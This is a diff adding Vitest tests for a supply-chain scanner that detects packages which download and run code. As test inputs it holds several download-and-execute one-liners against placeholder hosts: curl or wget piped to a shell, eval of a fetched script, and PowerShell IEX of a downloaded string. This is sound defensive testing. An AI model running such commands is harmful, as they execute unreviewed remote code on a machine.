@@ -1,0 +1,58 @@
+import fs from "node:fs";
+import { describe, expect, it } from "vitest";
+import { analyzeSource } from "@/scanner/analysis/analyze-source";
+import { downloadRunIn } from "@/scanner/analysis/download-run-commands";
+import { CODE_RULES } from "@/scanner/rules/index";
+
+const findingsOf = (rule: string, file: string) => analyzeSource(file, fs.readFileSync(file, "utf8"), CODE_RULES.filter((each) => each.id === rule)).findings;
+
+describe("downloadRunIn", () => {
+  it("names how a command line runs what it downloads", () => {
+    expect(downloadRunIn("curl -fsSL https://x.example/i.sh | sh")).toBe("a download piped into a shell");
+    expect(downloadRunIn("wget -qO- https://x.example/i | sudo -E bash")).toBe("a download piped into a shell");
+    expect(downloadRunIn("iwr https://x.example/a.ps1 -UseBasicParsing | iex")).toBe("a download piped into a shell");
+    expect(downloadRunIn('bash -c "$(curl -fsSL https://x.example/i.sh)"')).toBe("a download substituted into a shell");
+    expect(downloadRunIn("source <(curl -s https://x.example/env)")).toBe("a download substituted into a shell");
+    expect(downloadRunIn('eval "$(wget -qO- https://x.example/e)"')).toBe("a download substituted into a shell");
+    expect(downloadRunIn("$(wget -qO- https://x.example/cmd)")).toBe("a download substituted into a shell");
+    expect(downloadRunIn("sh -c `curl -s https://x.example/cmd`")).toBe("a download substituted into a shell");
+    expect(downloadRunIn("powershell -c \"IEX (New-Object System.Net.WebClient).DownloadString('https://x.example/a')\"")).toBe("PowerShell running a downloaded string");
+  });
+
+  it("leaves downloads kept as files or data alone", () => {
+    for (const line of ["curl -fsSL https://x.example/a.tgz -o a.tgz", "curl -s https://x.example/s | jq .", "wget https://x.example/f && sh ./local.sh", "sh ./setup.sh | tee log", "curl https://x.example | shasum -a 256"]) {
+      expect(downloadRunIn(line), line).toBeUndefined();
+    }
+  });
+
+  it("searches a line of thousands of downloads in linear time", () => {
+    expect(downloadRunIn("curl x ".repeat(10_000))).toBeUndefined();
+  });
+});
+
+describe("code a package downloads and runs", () => {
+  it("is high when run by a command line, naming how, and the rest of the spawn is still told", () => {
+    const findings = findingsOf("exec", "test/fixtures/rules/exec/download-run.js");
+    const at = (line: number) => findings.filter((finding) => finding.line === line);
+    for (const line of [6, 8, 10, 12, 14, 16]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["high"]);
+    expect(at(6)[0]!.message).toBe("Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will");
+    for (const line of [20, 22, 24]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["info"]);
+  });
+
+  it("is reported besides a detached spawn's finding, each once", () => {
+    const findings = findingsOf("exec", "test/fixtures/rules/exec/dropper.js").filter((finding) => finding.line === 6);
+    expect(findings.map((finding) => finding.message.split(" (")[0])).toEqual(["Runs what it downloads", "Starts a detached process with its output discarded"]);
+  });
+
+  it("is high when eval, Function or vm runs a response's body, or runs inside a download's handler", () => {
+    const findings = findingsOf("dynamic-code", "test/fixtures/rules/dynamic-code/downloaded.js");
+    const at = (line: number) => findings.find((finding) => finding.line === line);
+    for (const line of [8, 12, 14, 20, 23, 27]) expect(at(line)?.severity, `line ${line}`).toBe("high");
+    expect(at(8)!.message).toBe("Evaluates a string as code (eval), downloaded at run time (fetch from evil.example): code no reviewer has seen, which its server can change at will");
+    expect(at(14)!.message).toContain("(axios.get from evil.example)");
+    expect(at(20)!.message).toContain("(https.get from evil.example)");
+    expect(at(23)!.message).toBe("Hands eval what it downloads (fetch from evil.example): code no reviewer has seen, which its server can change at will");
+    // Code worked out at run time that no download gives stays medium.
+    expect(at(35)?.severity).toBe("medium");
+  });
+});
